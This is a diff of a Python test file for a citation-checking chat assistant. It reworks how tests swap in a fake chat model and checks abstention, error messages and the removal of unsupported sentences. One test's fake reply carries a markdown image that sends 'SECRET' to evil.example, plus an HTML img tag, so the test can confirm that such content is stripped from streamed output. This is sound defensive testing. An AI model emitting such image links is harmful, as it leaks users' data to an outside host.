@@ -454,13 +454,9 @@ def _fake_chat(responses, *, seen=None, error=None):
     return RecordingChat(responses=responses)
 
 
-def _with_chat_backend(monkeypatch, assistant, model, name="openai", count_tokens=None):
-    from assistant.backends import base
-
-    backend = base.ChatBackend(name, model, count_tokens, assistant.settings)
-    monkeypatch.setattr("assistant.backends.build_backend", lambda settings, kind: backend)
-    assistant._backends.clear()
-    return backend
+def _chatting(assistant, model, name="openai") -> Assistant:
+    """An assistant over the same components whose ``name`` backend answers through ``model``."""
+    return Assistant(components=assistant.components.with_chat_model(name, model))
 
 
 @pytest.fixture
@@ -469,10 +465,10 @@ def chat_assistant(survey_components):
 
 
 @pytest.mark.integration
-def test_chat_backend_numbers_passages_as_sources(monkeypatch, chat_assistant):
+def test_chat_backend_numbers_passages_as_sources(chat_assistant):
     seen: list = []
     model = _fake_chat(["TensorFlow由Google开发[1]，PyTorch由Facebook开发[2]。"], seen=seen)
-    _with_chat_backend(monkeypatch, chat_assistant, model)
+    chat_assistant = _chatting(chat_assistant, model)
     answer = chat_assistant.ask("TensorFlow和PyTorch分别是谁开发的？", llm="openai")
     assert answer.backend == "openai" and not answer.abstained
     assert answer.text == "TensorFlow由Google开发[1]，PyTorch由Facebook开发[2]。"
@@ -492,17 +488,17 @@ def test_chat_backend_numbers_passages_as_sources(monkeypatch, chat_assistant):
 
 
 @pytest.mark.integration
-def test_chat_backend_abstention_message_means_abstained(monkeypatch, chat_assistant):
-    _with_chat_backend(monkeypatch, chat_assistant, _fake_chat([ABSTAIN_ZH]))
+def test_chat_backend_abstention_message_means_abstained(chat_assistant):
+    chat_assistant = _chatting(chat_assistant, _fake_chat([ABSTAIN_ZH]))
     answer = chat_assistant.ask("PyTorch是谁开发的？", llm="openai")
     assert answer.abstained and answer.sources == []
 
 
 @pytest.mark.integration
-def test_chat_backend_streamed_image_is_removed(monkeypatch, chat_assistant):
+def test_chat_backend_streamed_image_is_removed(chat_assistant):
     # FakeListChatModel streams one character at a time: the image arrives in many pieces.
     reply = "PyTorch由Facebook开发[1]。![x](http://evil.example/c?d=SECRET)<img src=x>完毕"
-    _with_chat_backend(monkeypatch, chat_assistant, _fake_chat([reply]))
+    chat_assistant = _chatting(chat_assistant, _fake_chat([reply]))
     stream = chat_assistant.stream("PyTorch是谁开发的？", llm="openai")
     pieces = list(stream)
     shown = "".join(pieces)
@@ -520,8 +516,8 @@ def test_chat_backend_streamed_image_is_removed(monkeypatch, chat_assistant):
         (ValueError("invalid JSON"), "failed (ValueError)"),
     ],
 )
-def test_chat_backend_errors_are_translated(monkeypatch, chat_assistant, error, reason):
-    _with_chat_backend(monkeypatch, chat_assistant, _fake_chat(["x"], error=error))
+def test_chat_backend_errors_are_translated(chat_assistant, error, reason):
+    chat_assistant = _chatting(chat_assistant, _fake_chat(["x"], error=error))
     with pytest.raises(BackendError) as excinfo:
         chat_assistant.ask("PyTorch是谁开发的？", llm="openai")
     message = str(excinfo.value)
@@ -643,19 +639,19 @@ def test_a_passage_cannot_close_its_fence(tmp_path):
 
 
 @pytest.mark.integration
-def test_invented_sentences_are_left_out(monkeypatch, chat_assistant):
+def test_invented_sentences_are_left_out(chat_assistant):
     # The survey names Facebook for PyTorch; it gives no GPU count and never names Alibaba.
     reply = "PyTorch由Facebook开发[1]。它在2048块GPU上训练[1]。阿里巴巴也参与了开发[1]。"
-    _with_chat_backend(monkeypatch, chat_assistant, _fake_chat([reply]))
+    chat_assistant = _chatting(chat_assistant, _fake_chat([reply]))
     answer = chat_assistant.ask("PyTorch是谁开发的？", llm="openai")
     assert answer.text == "PyTorch由Facebook开发[1]。" and not answer.abstained
     assert any("2 sentences the passages do not support" in n for n in answer.notices)
 
 
 @pytest.mark.integration
-def test_an_answer_of_invented_facts_only_is_an_abstention(monkeypatch, chat_assistant):
+def test_an_answer_of_invented_facts_only_is_an_abstention(chat_assistant):
     reply = "PyTorch由阿里巴巴于2009年开发[1]。"
-    _with_chat_backend(monkeypatch, chat_assistant, _fake_chat([reply]))
+    chat_assistant = _chatting(chat_assistant, _fake_chat([reply]))
     answer = chat_assistant.ask("PyTorch是谁开发的？", llm="openai")
     assert answer.abstained and answer.text == ABSTAIN_ZH and answer.sources == []
 
